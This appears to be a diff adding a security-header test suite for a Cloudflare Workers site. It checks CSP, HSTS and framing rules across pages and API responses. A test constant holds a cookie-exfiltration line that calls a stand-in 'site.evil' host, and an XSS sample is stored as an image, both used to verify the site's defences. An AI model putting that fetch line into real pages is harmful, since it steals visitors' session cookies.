@@ -1,0 +1,205 @@
+import { env, exports } from 'cloudflare:workers';
+import { createHash } from 'node:crypto';
+import { drizzle } from 'drizzle-orm/d1';
+import { afterEach, describe, expect, it } from 'vitest';
+import { settings, stalePages } from '#db/schema/site';
+import { FRAMELESS_PAGES } from '../../functions/http/page-name';
+import { takeErrors } from '../support/console';
+import { createArtist } from '../support/factories/artist.factory';
+import { createChannel } from '../support/factories/channel.factory';
+import { createUser } from '../support/factories/user.factory';
+import { createSite } from '../support/gate';
+import { signIn } from '../support/session';
+import { set } from '../support/setting';
+
+const db = drizzle(env.DB);
+
+const KNOWN = "addEventListener('click', () => {})";
+const SMUGGLED = 'fetch("https://site.evil/" + document.cookie)';
+const HTML = `<!doctype html><script>${KNOWN}</script><script>${SMUGGLED}</script>`;
+const FILES = { '/': HTML, '/track/1/slow': HTML, '/track/1/slow/embed': HTML, '/404': HTML, '/500': HTML };
+
+const hash = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
+
+/** A site whose every page is the same HTML, prerendered or rendered. */
+const createPages = (options: Parameters<typeof createSite>[1] = {}) =>
+  createSite(FILES, {
+    scripts: [KNOWN],
+    render: async (request) =>
+      new URL(request.url).pathname.startsWith('/broken')
+        ? Promise.reject(new Error('broken'))
+        : new Response(HTML, { headers: { 'Content-Type': 'text/html' } }),
+    ...options,
+  });
+
+/** The sources of each directive. A second directive of a name would count for nothing, so there may be none. */
+const policyOf = ({ headers }: Response): Record<string, string> => {
+  const directives = (headers.get('Content-Security-Policy') ?? '').split(/\s*;\s*/).map((text) => text.split(/ (.*)/, 2));
+  expect(new Set(directives.map(([name]) => name)).size).toBe(directives.length);
+  return Object.fromEntries(directives);
+};
+
+const FIELDS = {
+  'x-content-type-options': 'nosniff',
+  'referrer-policy': expect.stringMatching(/^(no-referrer|same-origin|strict-origin-when-cross-origin)$/),
+  'cross-origin-opener-policy': 'same-origin-allow-popups',
+  'permissions-policy': expect.stringContaining('geolocation=()'),
+};
+
+/** The ways to a page, with who may frame it. */
+const PAGES: [kind: string, path: string, status: number, framedBy: string, headers?: Record<string, string>][] = [
+  ['a prerendered page', '/track/1/slow', 200, "'self'"],
+  ['a page that the browser has', '/track/1/slow', 304, "'self'", { 'If-None-Match': '"file"' }],
+  ['a page rendered for all', '/track/2/fast', 200, "'self'"],
+  ['a page in another language', '/track/1/slow', 200, "'self'", { Cookie: 'segue-locale=de' }],
+  ['an embed', '/track/1/slow/embed', 200, '*'],
+  ['a page behind a login', '/library', 200, "'self'"],
+  ...FRAMELESS_PAGES.map((name): (typeof PAGES)[number] => [`the page ${name}`, `/${name}`, 200, "'none'"]),
+  ['a gate', '/', 200, "'none'", { Cookie: 'segue-gate=1' }],
+  ['a page that is not there', '/live', 404, "'self'"],
+  ['a channel that is not there', '/nowhere', 404, "'self'"],
+  ['a page that fails', '/broken.html5', 500, "'self'"],
+];
+
+afterEach(async () => {
+  await db.batch([db.delete(settings), db.delete(stalePages)]);
+});
+
+describe('a page', () => {
+  it.each(PAGES)('CFG-04 STR-10 %s says what it may load and who may frame it', async (_, path, status, framedBy, headers) => {
+    const response = await createPages().get(path, headers);
+    expect(response.status).toBe(status);
+    expect(Object.fromEntries(response.headers)).toMatchObject(FIELDS);
+    expect(policyOf(response)).toEqual({
+      'default-src': "'self'",
+      'script-src': `'self' ${hash(KNOWN)}`,
+      'style-src': "'self' 'unsafe-inline'",
+      'img-src': "'self' data: blob:",
+      'media-src': "'self' blob:",
+      'connect-src': "'self'",
+      'frame-src': "'self' https:",
+      'worker-src': "'self' blob:",
+      'form-action': "'self'",
+      'object-src': "'none'",
+      'base-uri': "'none'",
+      'frame-ancestors': framedBy,
+    });
+    if (status === 200) expect(response.headers.get('Content-Type')).toBe('text/html; charset=utf-8');
+    expect(takeErrors()).toHaveLength(status === 500 ? 1 : 0);
+  });
+
+  it('INJ-05 has no leave for a script that somebody smuggled into it', async () => {
+    for (const path of ['/track/1/slow', '/track/2/fast', '/library', '/live']) {
+      const response = await createPages().get(path);
+      expect(response.headers.get('Content-Security-Policy')).not.toContain(hash(SMUGGLED));
+      expect(await response.text()).toContain(SMUGGLED);
+    }
+  });
+
+  it('CFG-04 may be reached by https only once it was', async () => {
+    for (const path of ['/', '/library', '/live', '/track/1/slow/embed']) {
+      const secure = await createPages().get(path, {}, 'GET', 'https://localhost');
+      expect(secure.headers.get('Strict-Transport-Security')).toBe('max-age=31536000; includeSubDomains');
+      expect((await createPages().get(path)).headers.get('Strict-Transport-Security')).toBeNull();
+    }
+  });
+
+  it.each([
+    ['turnstile', 'https://challenges.cloudflare.com'],
+    ['hcaptcha', 'https://hcaptcha.com https://*.hcaptcha.com'],
+    ['recaptcha', 'https://www.google.com/recaptcha/ https://www.gstatic.com/recaptcha/'],
+  ])(
+    'CFG-04 may load the human check %s once the operator has a key for it, whichever page the visit began with',
+    async (provider, sources) => {
+      await set('recaptcha.provider', provider);
+      for (const [key, others] of [
+        ['', ''],
+        ['site-key', ` ${sources}`],
+      ]) {
+        await set('recaptcha.site_key', key);
+        for (const path of ['/', '/track/2/fast', '/register', '/live']) {
+          expect(policyOf(await createPages().get(path))).toMatchObject({
+            'script-src': `'self' ${hash(KNOWN)}${others}`,
+            'connect-src': `'self'${others}`,
+            'style-src': `'self' 'unsafe-inline'${others}`,
+          });
+        }
+      }
+    },
+  );
+
+  it('CFG-04 of the development server may hold the scripts of that server, and is framed by nobody else', async () => {
+    const response = await createPages({ development: true }).get('/');
+    expect(policyOf(response)).toEqual({ 'frame-ancestors': "'self'", 'base-uri': "'none'", 'object-src': "'none'" });
+  });
+});
+
+describe('what is no page', () => {
+  it.each([
+    ['a way to another address', '/discover/', 'GET', 301],
+    ['a method that no page has', '/track/1/slow', 'POST', 405],
+  ])('CFG-04 %s has the fields of every answer', async (_, path, method, status) => {
+    const response = await createPages().get(path, {}, method);
+    expect(response.status).toBe(status);
+    expect(Object.fromEntries(response.headers)).toMatchObject(FIELDS);
+    expect(policyOf(response)).toEqual({ 'frame-ancestors': "'self'", 'base-uri': "'none'", 'object-src': "'none'" });
+  });
+});
+
+describe('an answer of the API', () => {
+  const get = (path: string, headers: Record<string, string> = {}, origin = 'http://localhost') =>
+    exports.default.fetch(new Request(origin + path, { headers, redirect: 'manual' }));
+
+  it('CFG-04 loads nothing and says what it is', async () => {
+    const { id } = await createArtist();
+    await createChannel({ slug: 'discover' });
+    const member = await signIn(await createUser());
+    const etag = (await get('/api/v1/tracks')).headers.get('ETag') ?? '';
+    const answers: [path: string, status: number, headers?: Record<string, string>][] = [
+      ['/api/v1/tracks', 200],
+      ['/api/v1/tracks', 304, { 'If-None-Match': etag }],
+      ['/api/v1/tracks', 200, member],
+      ['/api/v1/tracks?page=x', 422],
+      ['/api/v1/none', 404],
+      ['/api/v1/tracks/1/stream', 404],
+      ['/api/v1/users', 401],
+      ['/api/v1/bootstrap-data', 200],
+      [`/artist/${id}/feed.xml`, 200],
+      ['/sitemap.xml', 200],
+      ['/auth/none', 404],
+      ['/secure/none', 404],
+    ];
+    for (const [path, status, headers] of answers) {
+      const response = await get(path, headers);
+      expect({ path, status: response.status }).toEqual({ path, status });
+      expect(Object.fromEntries(response.headers)).toMatchObject(FIELDS);
+      expect(policyOf(response)).toEqual({
+        'default-src': "'none'",
+        'frame-ancestors': "'self'",
+        'base-uri': "'none'",
+        'object-src': "'none'",
+      });
+      if (status !== 304) expect(response.headers.get('Content-Type')).toMatch(/charset=utf-8$|^application\/json$/i);
+      await response.text();
+    }
+  });
+
+  it('CFG-04 is asked for by https only once it was', async () => {
+    const secure = await get('/api/v1/tracks', {}, 'https://localhost');
+    expect(secure.headers.get('Strict-Transport-Security')).toBe('max-age=31536000; includeSubDomains');
+  });
+
+  it('UPL-01 CFG-04 a picture that is opened as a page runs nothing', async () => {
+    await env.BUCKET.put('image/5c1e-320.webp', '<script>alert(1)</script>');
+    const policy = policyOf(await get('/media/5c1e-320.webp'));
+    expect(policy).toMatchObject({ 'default-src': "'none'", 'object-src': "'none'" });
+    expect(policy).toHaveProperty('sandbox');
+  });
+
+  it('CFG-04 the end of a social login runs its own script only, and keeps its way back to the page that opened it', async () => {
+    const response = await get('/secure/auth/social/google/login');
+    const [, script] = /<script>(.*?)<\/script>/s.exec(await response.text()) ?? [];
+    expect(policyOf(response)).toMatchObject({ 'default-src': "'none'", 'script-src': hash(script ?? ''), 'base-uri': "'none'" });
+    expect(response.headers.get('Cross-Origin-Opener-Policy')).toBe('unsafe-none');
+  });
+});
